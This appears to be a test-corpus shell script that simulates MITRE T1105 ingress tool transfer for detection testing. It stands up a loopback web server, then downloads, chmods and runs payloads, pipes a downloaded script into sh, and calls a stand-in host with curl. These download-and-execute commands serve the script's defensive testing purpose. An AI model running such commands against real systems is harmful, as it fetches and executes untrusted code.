#!/bin/sh
# Ingress tool transfer (T1105). A busybox httpd on 127.0.0.1:8080 plays the remote server;
# /usr/bin/curl is a stand-in that opens no socket (its remote URL is never contacted).
/bin/httpd -f -p 127.0.0.1:8080 -h /www &
HTTPD=$!
/bin/sleep 0.5
# download, make executable, run: three sibling processes
/bin/wget -q -O /tmp/.p http://127.0.0.1:8080/p
/bin/chmod +x /tmp/.p
/tmp/.p
# the shell itself writes a stage, chmods and runs it
printf '#!/bin/sh\necho "[corpus] dropped stage ran"\n' > /tmp/.d
/bin/chmod 755 /tmp/.d
/tmp/.d
# download piped into a shell
/bin/sh -c 'wget -q -O- http://127.0.0.1:8080/s.sh | sh'
# remote URL (stand-in curl) and tftp towards loopback (refused)
/usr/bin/curl -fsSL -o /tmp/x http://downloads.example.invalid/x
/bin/tftp -g -r payload -l /tmp/.t 127.0.0.1 || true
kill $HTTPD
rm -f /tmp/.p /tmp/.d /tmp/.t
echo "[corpus] ingress done"
